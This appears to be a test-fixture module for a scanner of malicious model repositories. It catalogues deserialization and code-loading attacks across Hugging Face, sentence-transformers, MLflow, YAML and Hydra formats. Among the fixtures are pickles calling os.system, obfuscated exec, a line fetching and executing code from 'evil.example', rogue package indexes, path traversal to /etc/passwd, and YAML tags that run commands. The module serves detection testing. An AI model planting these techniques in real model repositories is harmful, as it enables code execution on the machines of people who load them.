"""Attacks in model repositories: code that settings make a loader import, run or install."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

import json

from tests.corpus.chat_templates import LIVE as TEMPLATES
from tests.corpus.opcodes import call, program
from tests.corpus.payload import MARK, SHELL, SOURCE
from tests.corpus.technique import table
from tests.corpus.tensors import at, safetensors

PICKLE = program(call("os:system", SHELL))
WEIGHTS = safetensors({"w": at(0, 16)})
CONFIG = {"model_type": "evil", "architectures": ["Evil"]}


def beside(main: str, content: object, **more: object) -> dict[str, bytes]:
    """A settings file and others; `__` in a name is '.', `_in_` is '/'."""

    def octets(held: object) -> bytes:
        return (
            held
            if isinstance(held, bytes)
            else held.encode()
            if isinstance(held, str)
            else json.dumps(held).encode()
        )

    return {main: octets(content)} | {
        key.replace("_in_", "/").replace("__", "."): octets(each) for key, each in more.items()}  # fmt: skip


MODULE = (
    SOURCE
    + "\nfrom transformers import PretrainedConfig\nclass Config(PretrainedConfig):\n    model_type = 'evil'\n"
)
LATER = "import os\nclass Model:\n    def forward(self, x):\n        os.system('touch hauberk-mark')\n        return x\n"

table("hub-repository", "config.json", "auto-config", {
    "auto-map-code": lambda: beside("config.json", {**CONFIG, "auto_map": {"AutoConfig": "configuration_evil.Config"}},
                                    configuration_evil__py=MODULE),
}, needs=("transformers",))  # fmt: skip
table("hub-repository", "config.json", "", {
    "auto-map-other-repository": lambda: beside("config.json", {
        **CONFIG, "auto_map": {"AutoModel": "someone/else--modeling.Model"}}, model__safetensors=WEIGHTS),
    "auto-map-in-tokenizer": lambda: beside("config.json", {"model_type": "bert"}, tokenizer_config__json={
        "auto_map": {"AutoTokenizer": ["someone/else--tokenization.T", None]}}),
    "auto-map-processor": lambda: beside("config.json", {"model_type": "bert"}, preprocessor_config__json={
        "auto_map": {"AutoImageProcessor": "image.Evil"}}, image__py=SOURCE),
    "code-that-runs-later": lambda: beside("config.json", {**CONFIG, "auto_map": {"AutoModel": "modeling.Model"}},
                                           modeling__py=LATER),
    "code-obfuscated": lambda: beside("config.json", {**CONFIG, "auto_map": {"AutoModel": "modeling.Model"}},
                                      modeling__py="import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
    "code-subprocess": lambda: beside("config.json", {**CONFIG, "auto_map": {"AutoModel": "modeling.Model"}},
                                      modeling__py="import subprocess as s\ns.Popen(['touch', 'hauberk-mark'])\n"),
    "code-downloads": lambda: beside("config.json", {**CONFIG, "auto_map": {"AutoModel": "modeling.Model"}},
        modeling__py="from urllib.request import urlopen as u\nexec(u('http://evil.example/x').read())\n"),
    "code-getattr": lambda: beside("config.json", {**CONFIG, "auto_map": {"AutoModel": "modeling.Model"}},
        modeling__py="import importlib\ngetattr(importlib.import_module('o'+'s'), 'sys'+'tem')('true')\n"),
    "custom-pipeline": lambda: beside("config.json", {"model_type": "bert", "custom_pipelines": {
        "x": {"impl": "pipeline.Evil", "pt": ["AutoModel"]}}}, pipeline__py=SOURCE),
    "pickle-beside-safetensors": lambda: beside("config.json", {"model_type": "bert"}, model__safetensors=WEIGHTS,
                                                pytorch_model__bin=PICKLE),
    "training-args": lambda: beside("config.json", {"model_type": "bert"}, training_args__bin=PICKLE),
    "optimizer": lambda: beside("config.json", {"model_type": "bert"}, optimizer__pt=PICKLE),
    "shard-index-escapes": lambda: beside("config.json", {"model_type": "bert"}, model__safetensors__index__json={"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}),
    "pickled-tokenizer": lambda: beside("config.json", {"model_type": "bert"}, tokenizer__pkl=PICKLE),
    "adapter-auto-mapping": lambda: beside("adapter_config.json", {
        "peft_type": "LORA", "base_model_name_or_path": "x", "auto_mapping": {
            "base_model_class": "system", "parent_library": "os"}}) | {"config.json": b"{}"},
    "template-in-repository": lambda: beside("config.json", {"model_type": "llama"}, tokenizer_config__json={
        "chat_template": TEMPLATES["globals"]}),
    "diffusers-custom-class": lambda: beside("config.json", {}, model_index__json={
        "_class_name": ["pipeline", "Evil"], "unet": ["my_unet", "Evil"]}, pipeline__py=SOURCE),
    "setup-hook": lambda: beside("config.json", {"model_type": "bert"}, setup__py=SOURCE),
    "requirements-index": lambda: beside("config.json", {"model_type": "bert"},
        requirements__txt="--extra-index-url http://evil.example/simple\ntorch\n"),
    "executable-beside": lambda: beside("config.json", {"model_type": "bert"},
                                        pytorch_model__bin=b"\x7fELF\x02\x01\x01" + bytes(300)),
    "mz-beside": lambda: beside("config.json", {"model_type": "bert"}, model__bin=b"MZ\x90\0" + bytes(56)
                                + b"\x40\0\0\0PE\0\0" + bytes(300)),
    "shared-library": lambda: beside("config.json", {"model_type": "bert"},
                                     libop__so=b"\x7fELF\x02\x01\x01" + bytes(300)),
})  # fmt: skip

_MODULES = [{"idx": 0, "name": "0", "path": "", "type": "custom_module.Evil"}]
table("sentence-repository", "modules.json", "sentence-transformer", {
    "custom-module": lambda: beside("modules.json", _MODULES, custom_module__py=SOURCE + "\nclass Evil: pass\n",
                                    config__json={"model_type": "bert"},
                                    config_sentence_transformers__json={"__version__": {}}),
}, needs=("sentence_transformers",))  # fmt: skip
table("sentence-repository", "modules.json", "", {
    "module-os": lambda: beside("modules.json", [{"idx": 0, "name": "0", "path": "", "type": "os.system"}]),
    "path-escapes": lambda: beside("modules.json", [{
        "idx": 0, "name": "0", "path": "../../other", "type": "sentence_transformers.models.Transformer"}]),
    "other-repository-module": lambda: beside("modules.json", [{
        "idx": 0, "name": "0", "path": "", "type": "someone/else--module.Evil"}]),
})  # fmt: skip

_FLAVOUR = "flavors:\n  python_function:\n    loader_module: {}\n    python_version: 3.11.0\n    {}\n"
table("mlflow-repository", "MLmodel", "", {
    "loader-module": lambda: beside("MLmodel", _FLAVOUR.format("os", "data: model")),
    "loader-module-in-code": lambda: beside("MLmodel", _FLAVOUR.format("evil_loader", "code: code"),
                                            code_in_evil_loader__py=SOURCE),
    "pickled-python-model": lambda: beside("MLmodel", _FLAVOUR.format(
        "mlflow.pyfunc.model", "python_model: python_model.pkl"), python_model__pkl=PICKLE),
    "model-code-path": lambda: beside("MLmodel", _FLAVOUR.format(
        "mlflow.pyfunc.model", "model_code_path: evil.py"), evil__py=SOURCE),
    "data-path-escapes": lambda: beside("MLmodel", _FLAVOUR.format("mlflow.sklearn", "data: ../../secret.pkl")),
    "requirements-url": lambda: beside("MLmodel", _FLAVOUR.format("mlflow.sklearn", "data: m"),
                                       requirements__txt="https://evil.example/evil-1.0.tar.gz\n"),
    "requirements-index": lambda: beside("MLmodel", _FLAVOUR.format("mlflow.sklearn", "data: m"),
                                         requirements__txt="--index-url http://evil.example/simple\nmlflow\n"),
    "conda-pip-index": lambda: beside("MLmodel", _FLAVOUR.format("mlflow.sklearn", "env: conda.yaml"),
        conda__yaml="dependencies:\n- pip:\n  - --index-url http://evil.example/simple\n  - mlflow\n"),
    "yaml-object": lambda: beside("MLmodel", "flavors: !!python/object/apply:os.system ['id']\n"),
})  # fmt: skip

table("yaml", "config.yaml", "yaml", {
    "object-apply": f"a: !!python/object/apply:os.system ['touch {MARK}']\n".encode(),
    "object-apply-list": f"- !!python/object/apply:subprocess.getoutput\n  - touch {MARK}\n".encode(),
    "object-new": b"!!python/object/new:type\nargs: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n"
                  b"listitems: \"open('hauberk-mark','w')\"\n",
    "object-apply-full-tag": f"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['touch {MARK}']\n".encode(),
    "tag-directive": f"%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ['touch {MARK}']\n".encode(),
    "tag-escaped": f"a: !!python/object/%61pply:os.system ['touch {MARK}']\n".encode(),
    "anchored": f"a: &x !!python/object/apply:os.system ['touch {MARK}']\nb: *x\n".encode(),
    "module-import": f"a: !!python/object/apply:eval [\"open('{MARK}','w')\"]\n".encode(),
}, needs=("yaml",))  # fmt: skip
table("yaml", "config.yaml", "hydra", {
    "hydra-os-system": f"model:\n  _target_: os.system\n  _args_: ['touch {MARK}']\n".encode(),
    "hydra-popen": f"model:\n  _target_: subprocess.getoutput\n  cmd: touch {MARK}\n".encode(),
    "hydra-open": f"a: {{_target_: io.open, file: {MARK}, mode: w}}\n".encode(),
    "hydra-nested": f"a: [{{b: {{c: {{_target_: io.open, file: {MARK}, mode: w}}}}}}]\n".encode(),
    "hydra-behind-partial": f"a: {{_target_: functools.partial, _args_: [{{_target_: os.mkdir, path: {MARK}}}]}}\n".encode(),
    "hydra-quoted": f"\"_target_\": 'os.system'\n_args_: [\"touch {MARK}\"]\n".encode(),
    "hydra-escaped-key": f"\"\\x5ftarget_\": os.system\n_args_: [touch {MARK}]\n".encode(),
    "hydra-merge-key": f"base: &b {{_args_: [touch {MARK}]}}\nmodel:\n  <<: *b\n  _target_: os.system\n".encode(),
}, needs=("yaml",))  # fmt: skip
table("yaml", "config.yaml", "", {
    "second-document": b"a: 1\n---\nb: !!python/object/apply:os.system [id]\n",
    "python-module": b"a: !!python/module:os\n",
})  # fmt: skip
table("yaml", "config.json", "hydra", {
    "hydra-in-json": json.dumps({"model": {"_target_": "os.system", "_args_": [f"touch {MARK}"]}}).encode(),
}, needs=("yaml",))  # fmt: skip
